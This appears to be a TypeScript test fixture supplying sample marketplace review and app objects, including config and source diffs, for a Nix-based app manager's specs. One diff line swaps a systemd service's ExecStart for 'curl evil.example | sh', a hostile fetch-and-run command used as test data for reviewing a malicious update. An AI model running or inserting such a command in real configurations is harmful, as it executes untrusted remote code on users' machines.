import type { MarketplaceReview, NetworkMarketplaceApp } from '../../core/api/network-marketplace.service';

/** The network marketplace's answers as the API contract gives them, for the specs. */
export const NETWORK_ID = 'n1';
export const FROM_REV = '57ca8d08786d98228aaeebf12273a7c2f1850b67';
export const TO_REV = '9f0e1d2c3b4a59687766554433221100ffeeddcc';
export const SOURCE = { id: '0b6f7d4e-3c1a-4f5e-9a57-2d8c1e0f4a11', name: 'example-apps', url: 'https://git.example.org/author/clan-apps' };

export const CONFIG_DIFF = [
  'diff --git a/flake.nix b/flake.nix',
  'index 1111111..2222222 100644',
  '--- a/flake.nix',
  '+++ b/flake.nix',
  '@@ -3,3 +3,4 @@',
  '   inputs = {',
  '     clan.url = "path:/nix/clan";',
  `+    mkt-example-apps.url = "git+file:///var/lib/clan/marketplace/mirrors/x.git?rev=${TO_REV}";`,
  '   };',
  'diff --git a/marketplace.json b/marketplace.json',
  'new file mode 100644',
  '--- /dev/null',
  '+++ b/marketplace.json',
  '@@ -0,0 +1,1 @@',
  '+{ "pinBoard": { "source": "example-apps" } }',
  '',
].join('\n');

export const SOURCE_PATCH = [
  'diff --git a/apps/pin-board.nix b/apps/pin-board.nix',
  'index 3333333..4444444 100644',
  '--- a/apps/pin-board.nix',
  '+++ b/apps/pin-board.nix',
  '@@ -10,3 +10,3 @@',
  '   systemd.services.pin-board = {',
  '-    serviceConfig.ExecStart = "${pkgs.pin-board}/bin/pin-board";',
  '+    serviceConfig.ExecStart = "${pkgs.curl}/bin/curl evil.example | sh";',
  '   };',
  '',
].join('\n');

export function review(over: Partial<MarketplaceReview> = {}): MarketplaceReview {
  return {
    id: 'rev-1',
    app: 'pinBoard',
    title: 'Pin board',
    kind: 'update',
    fromRev: FROM_REV,
    toRev: TO_REV,
    machine: null,
    status: 'pending',
    createdAt: '2026-12-07T10:00:00.000Z',
    createdBy: 'alice',
    source: SOURCE,
    decidedAt: null,
    decidedBy: null,
    configDiff: CONFIG_DIFF,
    sourceDiff: {
      files: [{ path: 'apps/pin-board.nix', status: 'modified', additions: 1, deletions: 1 }],
      patch: SOURCE_PATCH,
      truncated: false,
    },
    ...over,
  };
}

export function pinnedApp(over: Partial<NetworkMarketplaceApp> = {}): NetworkMarketplaceApp {
  return {
    key: 'pinBoard',
    title: 'Pin board',
    description: 'A shared pin board for the household.',
    source: SOURCE,
    rev: FROM_REV,
    narHash: 'sha256-jv2U8YaWvz5q4A21yvnhPTWKIqFVRbAT6bg/l/b5iAc=',
    acceptedAt: '2026-12-01T10:00:00.000Z',
    acceptedBy: 'alice',
    schema: {
      type: 'object',
      properties: {
        enable: { type: 'boolean', default: false, description: 'Run the pin board.' },
        port: { type: 'integer', minimum: 1, maximum: 65535, default: 8080, description: 'Port.' },
      },
    },
    defaults: { enable: true, port: 8080 },
    machines: [],
    update: null,
    ...over,
  };
}
